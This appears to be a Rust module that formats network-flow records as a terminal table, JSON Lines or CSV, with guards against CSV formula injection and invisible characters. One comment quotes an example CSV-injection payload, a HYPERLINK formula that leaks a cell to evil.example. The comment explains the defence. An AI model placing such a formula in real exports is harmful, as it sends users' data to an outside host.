//! Output formats of query and export: a table for people, JSON Lines and CSV for tools.
//! JSON Lines and CSV are written from the record's field table
//! ([`FIELDS`]), the same one serde's `Serialize` for `FlowRecord`
//! uses, so their fields, names and order agree with it by construction; CSV has every
//! field but JSON's `verdict` (`drop` when `dropped > 0`, which CSV carries).
//!
//! Free text comes from subscribers files and packets (accounts, host names, DNS and TLS
//! names), so each format neutralises it for what reads it, and only there: CSV puts a `'`
//! before a text cell a spreadsheet would run as a formula ([`csv_text`]), the table shows
//! invisible characters as escapes ([`push_cell`]); JSON Lines carries every value exact.
//!
//! Query results can run to millions of records, so each line is written by hand into one
//! reused buffer (the byte writers of [`crate::record::text`]) rather than through
//! `core::fmt`, serde and per-field `String`s: 4-6x faster per record (the `timing` test
//! below). Tests hold every byte to the previous `format!`/serde implementation.

use std::io::Write;

use crate::record::text::{each_field, push_ip, push_proto, push_u64};
use crate::record::{rfc3339_ns_bytes, Field, FieldDef, FlowRecord, FIELDS};

/// An output format.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// Aligned columns for a terminal (a subset of the fields).
    Table,
    /// One JSON object per line, every field.
    Jsonl,
    /// RFC 4180 CSV with a header line, every field but `verdict` (`drop` exactly when
    /// `dropped` is above 0).
    Csv,
}

/// The CSV header line: the names of the fields CSV carries, in order.
pub fn csv_header() -> String {
    let names: Vec<&str> = FIELDS.iter().filter(|f| f.csv).map(|f| f.name).collect();
    names.join(",")
}

/// The columns of [`Format::Table`].
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Table {
    /// A flow per line: time, interface, protocol, both ends, counters, end reason, account
    /// and domain.
    #[default]
    Flows,
    /// The answer to "who had this NAT outside address and port": per inside flow, the
    /// outside tuple, the account, the inside and remote tuples, protocol, times, end
    /// reason, host name and domain.
    Nat,
}

/// Writes records in one format; call [`RecordWriter::header`] once first.
pub struct RecordWriter<W: Write> {
    out: W,
    format: Format,
    table: Table,
    /// One record's line, reused so a record costs no allocation and one `write_all`.
    line: Vec<u8>,
}

impl<W: Write> RecordWriter<W> {
    /// A writer of `format` to `out`.
    pub fn new(out: W, format: Format) -> Self {
        Self {
            out,
            format,
            table: Table::Flows,
            line: Vec::with_capacity(512),
        }
    }

    /// The same writer with `table`'s columns for [`Format::Table`].
    pub fn with_table(mut self, table: Table) -> Self {
        self.table = table;
        self
    }

    /// Writes the header line (CSV, table) or nothing (JSON Lines).
    pub fn header(&mut self) -> std::io::Result<()> {
        match self.format {
            Format::Csv => writeln!(self.out, "{}", csv_header()),
            Format::Table if self.table == Table::Nat => writeln!(
                self.out,
                "{:<21} {:<16} {:<21} {:<21} {:<6} {:<30} {:<30} {:<8} {:<16} domain",
                "outside",
                "user",
                "inside",
                "remote",
                "proto",
                "time_start",
                "time_end",
                "end",
                "hostname",
            ),
            Format::Table => writeln!(
                self.out,
                "{:<30} {:<8} {:<6} {:>39} {:>5}  {:>39} {:>5} {:>9} {:>12} {:<8} {:<16} domain",
                "time_start",
                "iface",
                "proto",
                "src_ip",
                "sport",
                "dst_ip",
                "dport",
                "packets",
                "bytes",
                "end",
                "user",
            ),
            Format::Jsonl => Ok(()),
        }
    }

    /// Writes one record.
    pub fn write(&mut self, r: &FlowRecord) -> std::io::Result<()> {
        let line = &mut self.line;
        line.clear();
        match self.format {
            Format::Jsonl => json_line(line, r)?,
            Format::Csv => csv_line(line, r),
            Format::Table if self.table == Table::Nat => nat_line(line, r),
            Format::Table => table_line(line, r),
        }
        self.out.write_all(line)
    }

    /// Flushes and returns the inner writer.
    pub fn finish(mut self) -> std::io::Result<W> {
        self.out.flush()?;
        Ok(self.out)
    }
}

/// The JSON object of `FlowRecord`'s `Serialize` through `serde_json::to_writer`, and a
/// newline: every field of [`FIELDS`], in order.
fn json_line(out: &mut Vec<u8>, r: &FlowRecord) -> std::io::Result<()> {
    macro_rules! field {
        ($i:literal) => {
            json_field(out, $i == 0, &FIELDS[$i], r)?
        };
    }
    each_field!(field);
    out.extend_from_slice(b"}\n");
    Ok(())
}

/// One field of [`json_line`]: `{"name":` for the first, `,"name":` for the others, then the
/// value.
#[inline(always)]
fn json_field(out: &mut Vec<u8>, first: bool, f: &FieldDef, r: &FlowRecord) -> std::io::Result<()> {
    if first {
        out.push(b'{');
        out.extend_from_slice(&f.json_key.as_bytes()[1..]);
    } else {
        out.extend_from_slice(f.json_key.as_bytes());
    }
    match (f.get)(r) {
        Field::Text(s) | Field::OptText(Some(s)) => json_str(out, s)?,
        Field::OptText(None) | Field::OptNum(None) | Field::OptIp(None) => {
            out.extend_from_slice(b"null")
        }
        v @ (Field::Num(_) | Field::OptNum(Some(_))) => v.push_text(out),
        v => {
            // Times, addresses, names: ASCII that never needs an escape.
            out.push(b'"');
            v.push_text(out);
            out.push(b'"');
        }
    }
    Ok(())
}

/// A JSON string as serde_json writes it: quoted as is unless it holds a byte serde_json
/// escapes (control characters, `"` and `\`); those strings go through serde_json itself.
fn json_str(out: &mut Vec<u8>, s: &str) -> std::io::Result<()> {
    if s.bytes().all(|b| b >= 0x20 && b != b'"' && b != b'\\') {
        out.push(b'"');
        out.extend_from_slice(s.as_bytes());
        out.push(b'"');
        Ok(())
    } else {
        serde_json::to_writer(out, s).map_err(std::io::Error::other)
    }
}

/// The CSV row: the fields of [`FIELDS`] CSV carries, RFC 4180 quoting for the free text.
fn csv_line(out: &mut Vec<u8>, r: &FlowRecord) {
    macro_rules! field {
        ($i:literal) => {
            csv_value(out, $i == 0, &FIELDS[$i], r)
        };
    }
    each_field!(field);
    out.push(b'\n');
}

/// One field of [`csv_line`] (nothing for a field CSV does not carry), after a comma unless
/// it is the first.
#[inline(always)]
fn csv_value(out: &mut Vec<u8>, first: bool, f: &FieldDef, r: &FlowRecord) {
    if !f.csv {
        return;
    }
    if !first {
        out.push(b',');
    }
    match (f.get)(r) {
        Field::Text(s) | Field::OptText(Some(s)) => csv_text(out, s),
        v => v.push_text(out),
    }
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list for
/// CSV injection): `=HYPERLINK("http://evil.example/?leak="&A2,"x")` as an account would send
/// the row to that site when clicked, `-a1-b1.example` as a DNS name computes.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would run `s` as a formula: it starts with one of
/// [`FORMULA_START`] and is not a plain decimal number (`-5`, `+1.5e3` are numbers; `-2+3`,
/// `-inf` formulas).
pub fn reads_as_formula(s: &str) -> bool {
    s.starts_with(FORMULA_START) && !plain_number(s)
}

/// `[+-]digits[.digits][e[+-]digits]`, nothing else (Rust's float parser also takes `inf` and
/// `NaN`, which a spreadsheet reads as names).
fn plain_number(s: &str) -> bool {
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match s.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (s, None),
    };
    let mantissa_ok = match mantissa.split_once('.') {
        Some((i, f)) => digits(i) && digits(f),
        None => digits(mantissa),
    };
    mantissa_ok && exponent.is_none_or(digits)
}

/// A CSV text cell: a `'` put before a text a spreadsheet would run ([`reads_as_formula`]; it
/// shows the text, not its result), then [`csv_field`]. Numbers are written as they are, by
/// the caller. JSON Lines carries such a text exact.
pub fn csv_text(out: &mut Vec<u8>, s: &str) {
    if reads_as_formula(s) {
        let mut guarded = String::with_capacity(s.len() + 1);
        guarded.push('\'');
        guarded.push_str(s);
        csv_field(out, &guarded);
    } else {
        csv_field(out, s);
    }
}

/// A CSV field, quoted (with `"` doubled) if it holds a comma, quote or line break; written
/// as it is otherwise (free text goes through [`csv_text`]).
pub fn csv_field(out: &mut Vec<u8>, s: &str) {
    if s.contains([',', '"', '\n', '\r']) {
        out.push(b'"');
        for part in s.split_inclusive('"') {
            out.extend_from_slice(part.as_bytes());
            if part.ends_with('"') {
                out.push(b'"');
            }
        }
        out.push(b'"');
    } else {
        out.extend_from_slice(s.as_bytes());
    }
}

/// The table row, padded like
/// `"{:<30} {:<8} {:<6} {:>39} {:>5}  {:>39} {:>5} {:>9} {:>12} {:<8} {:<16} {}"`
/// (`core::fmt` pads by `char` count); the interface, account and domain as [`push_cell`]
/// writes them.
fn table_line(out: &mut Vec<u8>, r: &FlowRecord) {
    let at = out.len();
    out.extend_from_slice(&rfc3339_ns_bytes(r.time_start_ns));
    pad_right(out, at, 30);
    out.push(b' ');
    push_cell(out, Some(&r.iface), 8);
    out.push(b' ');
    let at = out.len();
    push_proto(out, r.proto);
    pad_right(out, at, 6);
    out.push(b' ');
    let at = out.len();
    push_ip(out, &r.src_ip);
    pad_left(out, at, 39);
    out.push(b' ');
    let at = out.len();
    push_u64(out, u64::from(r.src_port));
    pad_left(out, at, 5);
    out.extend_from_slice(b"  ");
    let at = out.len();
    push_ip(out, &r.dst_ip);
    pad_left(out, at, 39);
    out.push(b' ');
    let at = out.len();
    push_u64(out, u64::from(r.dst_port));
    pad_left(out, at, 5);
    out.push(b' ');
    let at = out.len();
    push_u64(out, r.packets);
    pad_left(out, at, 9);
    out.push(b' ');
    let at = out.len();
    push_u64(out, r.bytes);
    pad_left(out, at, 12);
    out.push(b' ');
    let at = out.len();
    out.extend_from_slice(r.end_reason.as_str().as_bytes());
    pad_right(out, at, 8);
    out.push(b' ');
    push_cell(out, r.attr.user.as_deref(), 16);
    out.push(b' ');
    push_cell(out, r.attr.domain.as_deref(), 0);
    out.push(b'\n');
}

/// The row of [`Table::Nat`], padded like
/// `"{:<21} {:<16} {:<21} {:<21} {:<6} {:<30} {:<30} {:<8} {:<16} {}"`: outside tuple,
/// account, inside tuple, remote tuple, protocol, start, end, end reason, host name, domain.
fn nat_line(out: &mut Vec<u8>, r: &FlowRecord) {
    let at = out.len();
    match r.attr.nat_ip {
        Some(ip) => push_tuple(out, &ip, r.attr.nat_port),
        None => out.push(b'-'),
    }
    pad_right(out, at, 21);
    out.push(b' ');
    push_cell(out, r.attr.user.as_deref(), 16);
    // The replies to the outside tuple, seen on the outside interface: the remote is their
    // source, and the inside tuple is on the flow's own line.
    let reply = r.attr.nat_ip == Some(r.dst_ip) && r.attr.nat_port == Some(r.dst_port);
    out.push(b' ');
    let at = out.len();
    if reply {
        out.extend_from_slice(b"(replies)");
    } else {
        push_tuple(out, &r.src_ip, Some(r.src_port));
    }
    pad_right(out, at, 21);
    out.push(b' ');
    let at = out.len();
    if reply {
        push_tuple(out, &r.src_ip, Some(r.src_port));
    } else {
        push_tuple(out, &r.dst_ip, Some(r.dst_port));
    }
    pad_right(out, at, 21);
    out.push(b' ');
    let at = out.len();
    push_proto(out, r.proto);
    pad_right(out, at, 6);
    for t in [r.time_start_ns, r.time_end_ns] {
        out.push(b' ');
        out.extend_from_slice(&rfc3339_ns_bytes(t));
    }
    out.push(b' ');
    let at = out.len();
    out.extend_from_slice(r.end_reason.as_str().as_bytes());
    pad_right(out, at, 8);
    out.push(b' ');
    push_cell(out, r.attr.hostname.as_deref(), 16);
    out.push(b' ');
    push_cell(out, r.attr.domain.as_deref(), 0);
    out.push(b'\n');
}

/// `ADDRESS:PORT`, an IPv6 address in brackets; the address alone without a port.
fn push_tuple(out: &mut Vec<u8>, ip: &std::net::IpAddr, port: Option<u16>) {
    let v6 = ip.is_ipv6() && port.is_some();
    if v6 {
        out.push(b'[');
    }
    push_ip(out, ip);
    if v6 {
        out.push(b']');
    }
    if let Some(p) = port {
        out.push(b':');
        push_u64(out, u64::from(p));
    }
}

/// Free text of a table cell (interface, account, host name, domain: from the system,
/// subscribers files and packets, so never trusted with a terminal): invisible characters
/// (controls, text-direction and zero-width characters...) as their escape
/// ([`crate::invisible::shown_chars`], `\u{202e}`), `-` for none, left-aligned in `width`
/// characters.
fn push_cell(out: &mut Vec<u8>, text: Option<&str>, width: usize) {
    let text = text.unwrap_or("-");
    let mut chars = 0;
    let mut buf = [0u8; 4];
    for ch in crate::invisible::shown_chars(text) {
        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
        chars += 1;
    }
    out.resize(out.len() + width.saturating_sub(chars), b' ');
}

/// Left-aligns the ASCII text written since `start` in `width` columns (spaces after it).
fn pad_right(out: &mut Vec<u8>, start: usize, width: usize) {
    let len = out.len() - start;
    out.resize(out.len() + width.saturating_sub(len), b' ');
}

/// Right-aligns the ASCII text written since `start` in `width` columns (spaces before it).
fn pad_left(out: &mut Vec<u8>, start: usize, width: usize) {
    let len = out.len() - start;
    let pad = width.saturating_sub(len);
    if pad > 0 {
        out.resize(out.len() + pad, b' ');
        out.copy_within(start..start + len, start + pad);
        out[start..start + pad].fill(b' ');
    }
}

#[cfg(test)]
mod tests;
